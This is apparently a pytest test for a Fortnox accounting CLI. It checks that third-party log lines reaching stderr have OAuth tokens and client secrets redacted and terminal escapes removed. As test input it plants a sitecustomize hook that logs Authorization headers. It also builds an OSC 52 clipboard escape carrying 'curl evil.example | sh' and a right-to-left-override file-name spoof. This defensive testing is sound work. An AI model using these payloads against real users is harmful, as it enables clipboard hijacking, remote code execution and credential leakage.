"""Any module's log line reaches stderr through one filter: a library that logs what it saw (here a careless HTTP
instrumentation, planted as a sitecustomize the way a third-party package hooks in) repeats neither a live secret
nor a terminal escape, whoever's logger it uses."""

from __future__ import annotations

import base64
import os
import textwrap

from tests.fortnox.conftest import NORDLJUS, connect, fortnox_cli  # noqa: F401 (bokslut pointed at the sandbox)

OSC_52 = "\x1b]52;c;" + base64.b64encode(b"curl evil.example | sh").decode() + "\x07"  # writes the clipboard
PLANT = textwrap.dedent(
    """
    import logging

    import httpx

    _send = httpx.AsyncClient.send


    async def send(self, request, **options):
        response = await _send(self, request, **options)
        seen = request.headers.get("authorization", "")
        logging.getLogger("httpx").warning("%s %s with %s; server: %s", request.method, request.url.path, seen, OSC)
        logging.getLogger("acme.telemetry").error("uploaded {} \u202egnp.exe".format(seen))
        return response


    httpx.AsyncClient.send = send
    """
)


def test_a_third_party_log_line_with_a_live_token_and_an_escape_is_redacted_and_made_text(
    fortnox_cli, sandbox, tmp_path  # noqa: F811
):
    planted = tmp_path / "planted"
    planted.mkdir()
    (planted / "sitecustomize.py").write_text(f"OSC = {OSC_52!r}\n" + PLANT)
    fortnox_cli.extra_env["PYTHONPATH"] = os.pathsep.join([str(planted), os.environ.get("PYTHONPATH", "")])
    fortnox_cli("company", "add", "--org-number", NORDLJUS, "--name", "Nordljus Konsult AB")
    connected = connect(fortnox_cli, NORDLJUS)
    assert connected.returncode == 0, connected.stderr
    imported = fortnox_cli("import-fortnox", "--company", NORDLJUS)
    assert imported.returncode == 0, imported.stderr

    printed = (connected.stderr + imported.stderr).splitlines()
    lines = [line for line in printed if "uploaded" in line or "server:" in line]
    bearer = [line for line in lines if "GET /3/" in line]
    assert bearer and all("with Bearer [redacted]; server:  ]52;c;" in line for line in bearer)  # the token's own
    basic = [line for line in lines if "POST /oauth-v1/token" in line]
    assert basic and all("with Basic [redacted]" in line for line in basic)  # the client id and secret
    assert any("uploaded Bearer [redacted]  gnp.exe" in line for line in lines)  # another library's logger too
    credential = base64.b64encode(f"{sandbox.client_id}:{sandbox.client_secret}".encode()).decode()
    for text in (connected.stderr, imported.stderr):
        for secret in (*sandbox.sandbox.oauth.secrets_issued(), sandbox.client_secret, credential):
            assert secret not in text
        assert "\x1b" not in text and "\x07" not in text and "\u202e" not in text
